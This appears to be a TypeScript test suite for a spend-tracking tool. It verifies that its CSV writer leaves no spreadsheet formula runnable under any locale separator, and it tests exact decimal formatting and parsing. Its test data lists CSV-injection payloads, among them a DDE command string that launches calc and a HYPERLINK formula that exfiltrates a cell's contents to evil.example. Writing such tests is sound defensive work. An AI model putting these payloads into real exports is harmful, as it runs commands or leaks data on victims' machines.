import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { csvLine } from '../../../../src/core/spend/csv.ts';
import { decimalOf, picoOfDecimal } from '../../../../src/core/spend/decimal.ts';

/** A reader of RFC 4180 for one separator, as a spreadsheet of some locale has one. Quotes count at a cell's start only. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at] ?? '';
    if (isQuoted && character === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (character === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (character === separator || character === '\r' || character === '\n')) {
      cells.push(cell);
      cell = '';
    } else cell += character;
  }
  return [...cells, cell];
}

/** What a spreadsheet would run, whatever blank or unseen characters it drops first. */
const isFormula = (cell: string): boolean => /^[\s\p{Cc}\p{Cf}\uFEFF]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell);

const attacks = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  'a;=1+1',
  'a\t=1+1',
  'a,=1+1',
  'a|=1+1',
  'a\r\n=1+1',
  'x",=1+1,"',
  '";=1+1;"',
  "'=1+1",
  '"=1+1"',
  'a;"=1+1"',
  'a;""=1+1',
];

describe('CSV for spreadsheets', () => {
  it('leaves no cell that a spreadsheet runs, whichever separator its locale has', () => {
    for (const attack of attacks) {
      const line = csvLine(['plain', attack, 3, attack]);
      for (const separator of [',', ';', '\t', '|'])
        assert.deepEqual(cellsOf(line, separator).filter(isFormula), [], JSON.stringify([attack, separator]));
    }
  });

  it('does so for any text', () => {
    const part = fc.constantFrom(...'=+-@＝＋－＠﹦﹢﹣﹫;,|\t\r\n"\' a1\u200B\uFEFF');
    const hostile = fc.array(part, { maxLength: 12 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (texts) => {
        const line = csvLine(texts);
        for (const separator of [',', ';', '\t', '|'])
          assert.deepEqual(cellsOf(line, separator).filter(isFormula), []);
      }),
      { numRuns: 2_000 },
    );
  });

  it('comes back as it was where nothing looks like a formula', () => {
    const harmless = fc
      .string({ unit: 'grapheme', maxLength: 20 })
      .filter((text) => !/[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(text) && !/^[\t\r\n]/.test(text));
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 1, maxLength: 5 }), (texts) => {
        assert.deepEqual(cellsOf(csvLine(texts).slice(0, -2), ','), texts);
      }),
    );
  });

  it('names models, hosts and files plainly', () => {
    assert.equal(
      csvLine(['deepseek-ai/DeepSeek-V3.2', '127.0.0.1:4000', 'src/a-b.ts', '', 12]),
      'deepseek-ai/DeepSeek-V3.2,127.0.0.1:4000,src/a-b.ts,,12\r\n',
    );
  });
});

describe('exact decimals', () => {
  it('show every digit and no more', () => {
    assert.equal(decimalOf(0n), '0');
    assert.equal(decimalOf(1n), '0.000000000001');
    assert.equal(decimalOf(1_500_000_000_000n), '1.5');
    assert.equal(decimalOf(-20_000_000_000n), '-0.02');
  });

  it('are what they stand for, of any size', () => {
    fc.assert(
      fc.property(fc.bigInt({ min: -(10n ** 20n), max: 10n ** 20n }), (pico) => {
        const [whole = '', fraction = ''] = decimalOf(pico).replace('-', '').split('.');
        const back = BigInt(whole + fraction.padEnd(12, '0'));
        assert.equal(pico < 0n ? -back : back, pico);
      }),
    );
  });

  it('are read as people type them, and refused when they are none', () => {
    for (const [typed, pico] of [
      ['12.34', 12_340_000_000_000n],
      [' ¥12,34 ', 12_340_000_000_000n],
      ['１２．５', 12_500_000_000_000n],
      ['1,234.5', 1_234_500_000_000_000n],
      ['1,000', 1_000_000_000_000_000n],
      ['0,125', 125_000_000_000n],
      ['0', 0n],
      ['0.000001', 1_000_000n],
    ] as const)
      assert.equal(picoOfDecimal(typed), pico, typed);
    for (const typed of ['', '-1', '1e5', '0.0000001', 'abc', '1.2.3', '1234567890123', '12,34,56'])
      assert.equal(picoOfDecimal(typed), null, typed);
  });
});
